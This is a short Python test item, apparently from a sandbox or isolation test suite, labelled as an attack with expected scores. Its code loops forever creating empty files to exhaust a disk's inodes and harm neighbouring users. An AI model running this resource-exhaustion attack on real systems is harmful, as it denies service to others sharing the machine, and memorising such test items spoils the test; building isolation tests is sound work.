# attack: Makes files without end, to use up the disk's file numbers.
# gain: neighbour
# expect: q01=3 q02=0 q03=3

# %% q02
import os

os.makedirs("left-many", exist_ok=True)
number = 0
while True:
    number += 1
    open(f"left-many/{number}", "w").close()
